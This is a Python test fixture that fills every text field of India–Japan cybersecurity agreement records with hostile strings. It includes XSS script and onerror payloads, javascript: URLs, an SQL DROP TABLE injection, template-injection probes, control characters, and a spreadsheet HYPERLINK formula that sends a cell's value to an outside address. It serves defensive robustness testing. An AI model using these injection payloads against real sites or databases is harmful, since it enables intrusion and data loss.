"""A record that tries to do harm wherever its texts go."""

from __future__ import annotations

import attrs

import india_cyber_agreements as ica

SCRIPT = "<script>alert(1)</script>"
TAG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
SQL = '"; DROP TABLE agreements; --'
LONG = "long " * 2000
RIGHT_TO_LEFT = "اتفاقية \u202eevil"
EMOJI = "🇮🇳🤝🇯🇵 👩‍💻"
EXPRESSION = "datum.title {{7*7}} ${7*7} %s {0}"
CONTROL = "bell\x07 escape\x1b[31m no character\uffff\ufffe"
TEXTS = (SCRIPT, TAG, FORMULA, SQL, LONG, RIGHT_TO_LEFT, EMOJI, EXPRESSION, CONTROL)


def records() -> ica.AgreementSet:
    """Return a record for each of the texts, which stands in every field that holds text."""
    model = ica.get("in-jp-2022-cybersecurity-moc")
    made: list[ica.Agreement] = []
    for number, text in enumerate(TEXTS):
        source = attrs.evolve(
            model.sources[0], id=f"hostile-{number}", title=text, publisher=text, url=f"javascript:alert({number})"
        )
        event = ica.Event(
            kind=ica.EventKind.SIGNED,
            date=ica.PartialDate.parse(f"20{10 + number}"),
            sources=(source,),
            note=text,
            rivals=(ica.DateClaim(date=ica.PartialDate.parse("2009"), sources=(source,), note=text),),
        )
        made.append(
            attrs.evolve(
                model,
                id=f"in-jp-hostile-{number}",
                title=text,
                organisation=text,
                bodies=ica.Bodies(indian=text, partner=text),
                signatories=(text, text),
                place=text,
                term=text,
                summary=text,
                notes=text,
                events=(event,),
                relations=(),
                citations=(ica.Citation(source=source, supports=text),),
            )
        )
    return ica.AgreementSet.of(made)
